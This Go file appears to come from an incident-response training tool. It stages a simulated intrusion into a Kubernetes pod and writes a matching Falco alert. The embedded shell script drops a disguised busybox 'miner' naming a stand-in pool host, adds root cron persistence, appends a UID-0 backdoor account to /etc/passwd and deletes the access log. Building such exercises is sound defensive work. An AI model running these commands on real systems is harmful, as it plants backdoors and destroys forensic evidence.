package scenario

import (
	"context"
	"fmt"
	"io"
	"path"
	"strings"
	"time"

	corev1 "k8s.io/api/core/v1"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"
)

// AttackConfig says where to break in.
type AttackConfig struct {
	REST *rest.Config // an administrator's
	Node string       // the node whose pods are attacked
	Real bool         // the node runs containers; otherwise only the alert is real
	Dir  string       // where alert.json and the journal of attacks are kept
	Now  func() time.Time
	Out  io.Writer
}

// Intrusion is what an attack did, and to whom.
type Intrusion struct {
	Pod         string    `json:"pod"`
	PodUID      string    `json:"podUID"`
	Container   string    `json:"container"`
	ContainerID string    `json:"containerID"` // without its scheme
	Node        string    `json:"node"`
	At          time.Time `json:"at"`
	Alert       string    `json:"alert"`             // path of the Falco alert
	Dropped     string    `json:"dropped,omitempty"` // path in the container of the program that was dropped and runs
	SHA256      string    `json:"sha256,omitempty"`  // of the dropped program
	Changed     []string  `json:"changed,omitempty"` // paths in the container that were written
	Deleted     []string  `json:"deleted,omitempty"` // paths in the container that are gone
}

// Paths in the container that the intruder touches.
const (
	droppedProgram = "/var/tmp/.kworkerd/httpd" // named as the program that is expected to run
	crontab        = "/var/spool/cron/crontabs/root"
	passwd         = "/etc/passwd"
	accessLog      = "/var/log/web/access.log"
)

// Attack breaks into a pod of the Deployment that no case holds, and writes the alert that Falco would send. It undoes
// nothing of what a responder did: when every pod is held, the error names the command that gives one back.
func Attack(ctx context.Context, cfg AttackConfig) (Intrusion, error) {
	client, err := kubernetes.NewForConfig(cfg.REST)
	if err != nil {
		return Intrusion{}, fmt.Errorf("attack: %w", err)
	}
	pod, err := cfg.choose(ctx, client)
	if err != nil {
		return Intrusion{}, fmt.Errorf("attack: %w", err)
	}
	intrusion := cfg.target(pod)
	if err := cfg.journal(intrusion); err != nil {
		return Intrusion{}, fmt.Errorf("attack: %w", err)
	}
	if cfg.Real {
		fmt.Fprintf(cfg.Out, "attack: commands in container %s of pod %s/%s\n", intrusion.Container, Namespace, intrusion.Pod)
		if err := cfg.intrude(ctx, &intrusion); err != nil {
			return Intrusion{}, fmt.Errorf("attack pod %q: %w", pod.Name, err)
		}
	}
	return intrusion, cfg.writeAlert(intrusion, pod)
}

func (cfg AttackConfig) target(pod *corev1.Pod) Intrusion {
	status := pod.Status.ContainerStatuses[0]
	_, id, _ := strings.Cut(status.ContainerID, "://")
	return Intrusion{
		Pod: pod.Name, PodUID: string(pod.UID), Container: status.Name, ContainerID: id, Node: pod.Spec.NodeName,
		At: cfg.Now().UTC(), Alert: cfg.alertPath(),
	}
}

// intrude runs the intruder's commands. Single files are synced, not the file system: the changes are then in the
// journal of the node's disk, and for about half a minute nowhere else.
func (cfg AttackConfig) intrude(ctx context.Context, intrusion *Intrusion) error {
	output, err := execute(ctx, cfg.REST, intrusion.Pod, intrusion.Container, "/bin/sh", "-c", intruderScript())
	if err != nil {
		return err
	}
	sum, _, found := strings.Cut(output, " ")
	if !found || len(sum) != 64 {
		return fmt.Errorf("unexpected answer %q", output)
	}
	intrusion.Dropped, intrusion.SHA256 = droppedProgram, sum
	intrusion.Changed, intrusion.Deleted = []string{crontab, passwd}, []string{accessLog}
	return nil
}

// intruderScript can run again in a container where it ran before: the program that runs cannot be written over, only
// replaced, and goes on listening.
func intruderScript() string {
	return strings.NewReplacer("PROGRAM", droppedProgram, "DIR", path.Dir(droppedProgram), "CRONTAB", crontab, "PASSWD", passwd, "LOG", accessLog).Replace(`set -e
mkdir -p DIR
cp /bin/busybox PROGRAM.new
echo "pool=stratum+tcp://pool.miner.example:3333 worker=shop" >>PROGRAM.new
mv -f PROGRAM.new PROGRAM
PROGRAM -p 127.0.0.1:8333 -h DIR || true
ls -l /proc/[0-9]*/exe 2>/dev/null | grep -qF PROGRAM
echo "*/5 * * * * PROGRAM -p 127.0.0.1:8333 -h DIR" >>CRONTAB
echo "support:x:0:0:support:/root:/bin/sh" >>PASSWD
rm -f LOG
sync PROGRAM CRONTAB PASSWD
sha256sum PROGRAM
`)
}
